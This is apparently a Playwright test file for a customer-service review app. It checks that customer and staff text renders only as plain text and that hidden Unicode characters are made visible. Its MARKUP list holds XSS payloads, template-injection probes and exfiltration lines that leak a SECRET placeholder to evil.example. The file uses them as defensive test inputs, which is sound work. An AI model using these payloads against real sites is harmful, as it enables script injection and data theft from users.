"""What strangers write is text on our pages, all of it visible (security.md, bad inputs G and H).

Visitors fail their test on a dialog, a request to anywhere else, or a violated Security Policy.
"""

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Visitor, Visitors
from tests.browser.customers import asks, shopping
from tests.browser.world import World

pytestmark = pytest.mark.asyncio(loop_scope="session")

HELD = "no questions asked"

MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "[click](javascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![look](https://evil.example/?q=SECRET)",
    "![look][ref]\n[ref]: https://evil.example/?q=SECRET",
    "<https://evil.example/?q=SECRET>",
    "https://evil.example/?q=SECRET",
    "<link rel=prefetch href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "background:url(//evil.example/?q=SECRET)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><button>Approve</button></form>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("//evil.example")',
    "&lt;b&gt; &#x3C;script&#x3E;",
)

HIDDEN = {
    "pass\u200bword": "passU+200Bword",
    "a\u202eb\u202cc": "aU+202EbU+202Cc",
    "x\u2066y\u2069z": "xU+2066yU+2069z",
    "p\u2067q\u2068r": "pU+2067qU+2068r",
    "\ufeffstart": "U+FEFFstart",
    "tag\U000e0041\U000e0042end": "tagU+E0041U+E0042end",
    "gap\u2800gap": "gapU+2800gap",
    "nb\u202fsp": "nbU+202Fsp",
    "zw\u200dj": "zwU+200Dj",
    "line\u2028sep": "lineU+2028sep",
    "p\u0430ypal": "p\u0430 U+0430ypal",
    "v\ufe0fs": "vU+FE0Fs",
}


async def test_markup_is_text_wherever_it_is_shown(
    world: World, visitors: Visitors, ana: Visitor
) -> None:
    everything = "\n".join(MARKUP)
    world.stage.says(f"{HELD}\n{everything}")
    shop = (await shopping(visitors)).page
    await asks(shop, everything)
    await ana.open("Refund promise")
    for each in MARKUP:
        line = each.split("\n")[0]
        await expect(ana.page.locator("figure.pending")).to_contain_text(line)
        await expect(ana.page.locator(".asked")).to_contain_text(line)
    await (await ana.edit()).press("Control+Enter")
    await expect(ana.page.locator(".actions")).to_contain_text("You edited")
    for each in MARKUP:
        await expect(shop.locator(".said.model")).to_contain_text(each.split("\n")[0])
    assert await ana.page.locator("img, iframe, main script, main style, main a").count() == 0
    assert await shop.locator("img, iframe, main script, main style, main a").count() == 0


async def test_names_of_people_are_text_too(visitors: Visitors, ana: Visitor) -> None:
    name = "<img src=x onerror=alert(1)> {{7*7}}"
    await visitors.agent(name)
    colleagues = ana.page.get_by_role("list", name="Colleagues online")
    await expect(colleagues).to_have_text(name)


async def test_what_cannot_be_seen_is_shown(world: World, ana: Visitor) -> None:
    world.stage.says(f"{HELD}\n" + "\n".join(HIDDEN))
    world.ask("\n".join(HIDDEN))
    await ana.open("Refund promise")
    for shown in HIDDEN.values():
        await expect(ana.page.locator("figure.pending")).to_contain_text(shown)
        await expect(ana.page.locator(".asked")).to_contain_text(shown)
    chips = ana.page.locator(".asked .hidden-character")
    await expect(chips.first).to_have_text("U+200B")


async def test_what_cannot_be_seen_is_shown_where_it_is_confirmed(
    world: World, ana: Visitor
) -> None:
    world.stage.says("3 months.")
    world.ask("From which age is the Sparrow carrier?")
    await ana.open("Child safety")
    written = await ana.edit()
    await written.fill("3 months, and " + "\n".join(HIDDEN))
    for shown in HIDDEN.values():
        await expect(ana.page.locator(".editor .difference")).to_contain_text(shown)
    await ana.page.keyboard.press("Control+Enter")
    proposed = ana.page.locator(".proposed")
    for view in (".difference", ".words"):
        for shown in HIDDEN.values():
            await expect(proposed.locator(view)).to_contain_text(shown)
        await expect(proposed.locator(f"{view} .hidden-character").first).to_have_text("U+200B")
        await ana.page.keyboard.press("d")


async def test_what_cannot_be_seen_is_shown_where_holds_are_decided_together(
    world: World, ana: Visitor
) -> None:
    text = f"{HELD}: bring it back and we pay for all of it, as we always do, pass\u200bword"
    world.stage.says(f"{text}.", f"{text} too.")
    for number in range(2):
        world.ask("My lamp arrived damaged.", conversation=f"conv_{number}")
        await expect(ana.page.locator("ol .row")).to_have_count(number + 1)
    await ana.page.locator("ol .row").first.click()
    await expect(ana.page.locator(".together .hidden-character")).to_have_text("U+200B")


async def test_a_text_cannot_reach_out_of_its_box(world: World, ana: Visitor) -> None:
    zalgo = "Z" + "\u0301\u0322\u033f" * 300
    world.stage.says(f"{HELD} {zalgo} " + "W" * 3000 + " \ufdfa" * 2000)
    world.ask("\u200b" * 5000 + "?")
    await ana.open("Refund promise")
    await expect(ana.page.locator(".asked")).to_contain_text("U+200B \u00d75000")
    boxes = await ana.page.evaluate(
        """() => ['.top', '.queue', 'main', '.context', '.actions'].map((name) => {
          const box = document.querySelector(name).getBoundingClientRect();
          return [box.left >= 0, box.right <= innerWidth, box.top >= 0, box.bottom <= innerHeight];
        })"""
    )
    assert boxes == [[True] * 4] * 5
    await expect(ana.page.get_by_role("button", name="Reject")).to_be_visible()


async def test_each_text_keeps_its_own_direction(world: World, ana: Visitor) -> None:
    world.ask("مرحبا، هل يمكنني إرجاع المصباح؟ I want to speak to a human")
    await ana.open("Asks for a person")
    direction = "node => getComputedStyle(node).direction"
    assert await ana.page.locator(".asked .words").evaluate(direction) == "rtl"
    assert await ana.page.locator("figure.pending .words").evaluate(direction) == "ltr"
